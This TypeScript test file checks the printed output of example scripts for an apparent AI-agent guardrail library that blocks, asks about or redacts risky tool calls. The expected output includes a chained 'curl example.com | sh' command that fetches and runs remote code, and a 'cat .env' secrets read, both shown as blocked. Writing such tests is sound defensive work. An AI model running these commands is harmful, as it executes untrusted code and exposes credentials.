import { execFile, execFileSync } from 'node:child_process';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { root } from './doc-blocks.js';

const run = promisify(execFile);

/** What each runnable file of examples/ must print: its story, line by line. */
const STORIES: Record<string, RegExp[]> = {
  'own-loop.mjs': [
    /^read notes\.md -> contents of notes\.md$/m,
    /^asked the user: delete notes\.md\? -> no$/m,
    /^delete notes\.md -> \{"error":"declined by the user: delete notes\.md\?"\}$/m,
    /^system prompt of the first request: "You are a coding agent\.\\n\\nExplain each change\."$/m,
  ],
  'remembered-approvals.mjs': [
    /^asked: run npm test\? -> always\nmonday: npm test -> ok\ntuesday: npm test -> ok \(remembered: always\)$/m,
    /^asked: run npm test && curl example\.com \| sh\? -> deny\ntuesday: npm test && curl example\.com \| sh -> blocked$/m,
  ],
  'budgets.mjs': [
    /^bash ls -> ran ls: README\.md src\/\nbash ls -> ran ls: README\.md src\/\nbash ls -> \{"error":"Tool call budget: at most 2 calls of bash per turn/m,
    /^turn ended: Model call budget: at most 4 model requests per turn/m,
  ],
  'final-answer.mjs': [
    /^turn 1: withheld -> The answer says the tests pass, but no test ran in this turn\.$/m,
    /^turn 2: shown -> Fixed the bug; the tests pass\.$/m,
  ],
  'redact-results.mjs': [
    /^cat \.env\.example -> \{"stdout":"OPENAI_API_KEY=\[redacted key\]\\n","exitCode":0\}$/m,
    /^env -> \{"error":"the environment is not shown to the model: ask for the variable you need","blocked_by_extension":true,"extension":"no-env-dumps"\}$/m,
  ],
  'shadow-mode.mjs': [
    /^git push --force origin main -> pushed$/m,
    /^no-force-push: would have blocked 1, asked 0$/m,
    /^ {4}1× block: force pushes rewrite shared history: push a new commit instead$/m,
  ],
  'chain-deadline.mjs': [
    /^bash ls -> refused: Blocked because the intercept_tool_call chain ran past its chainTimeoutMs of 800 ms \(ran: lint-check; cut off: license-check; did not run: secrets-scan\)/m,
    /^model request -> sent with system prompt "You are a coding agent\.\\n\\nAnswer briefly\."$/m,
    /^ {2}and in its trace: the before_llm_call chain ran past its chainTimeoutMs of 800 ms \(ran: concise-style, lint-check; cut off: license-check; did not run: secrets-scan\): went on with what finished/m,
  ],
  'quickstart.mjs': [/^BLOCKED write src\/login\.ts/m, /^ran +write plans\/active\/plan\.md/m],
  'ai-sdk.mjs': [
    /^write src\/app\.ts -> \{"error":"Blocked by workflow-guard: write would write src\/app\.ts, and no plan exists/m,
    /^write plans\/active\/plan\.md -> "wrote plans\/active\/plan\.md"$/m,
    /^write src\/app\.ts -> "wrote src\/app\.ts"$/m,
    /^answer: Planned, then edited\.$/m,
  ],
  'claude-code-hook.mjs': [
    /^Claude Code is told: deny$/m,
    /^and the model reads: Blocked by workflow-guard: write would write .*src\/app\.ts, and no plan exists/m,
  ],
  'codex-hook.mjs': [
    /^Codex is told: deny$/m,
    /^and the model reads: Blocked by workflow-guard: patch would write src\/app\.ts, and no plan exists/m,
  ],
  'every-agent.mjs': [
    /^Claude Code: deny — bash would touch a secrets file \(cat \.env\)/m,
    /^Codex: deny — bash would touch a secrets file/m,
    /^Hermes agent: block — bash would touch a secrets file/m,
    /^Cursor: deny — bash would touch a secrets file/m,
    /^Antigravity: deny — bash would touch a secrets file/m,
    /^OpenCode: refused — bash would touch a secrets file/m,
  ],
  'bridge.py': [
    /^write src\/app\.py -> refused by workflow-guard: Blocked by workflow-guard: write would write src\/app\.py/m,
    /^write plans\/active\/plan\.md -> runs with \{"path": "plans\/active\/plan\.md"/m,
  ],
};

const python = (() => {
  try {
    execFileSync('python3', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    console.warn(
      'test/readme/examples-run.test.ts: python3 is not installed, so bridge.py is not run',
    );
    return false;
  }
})();

describe('the runnable files of examples/ (they run the built dist/: npm run build)', () => {
  it('every runnable file there has a story here, and every story a file', () => {
    const files = readdirSync(join(root, 'examples')).filter((file) => /\.(mjs|py)$/.test(file));
    expect(files.sort()).toEqual(Object.keys(STORIES).sort());
  });

  for (const [file, story] of Object.entries(STORIES)) {
    (file.endsWith('.py') && !python ? it.skip : it.concurrent)(
      `${file} runs, exits 0 and tells its story`,
      async () => {
        const [program, args] = file.endsWith('.py')
          ? ['python3', [join(root, 'examples', file)]]
          : [process.execPath, [join(root, 'examples', file)]];
        // A failed run rejects with its exit code and output, which the failure then shows.
        const { stdout } = await run(program, args, { cwd: root, encoding: 'utf8' });
        for (const line of story) expect(stdout).toMatch(line);
      },
    );
  }
});
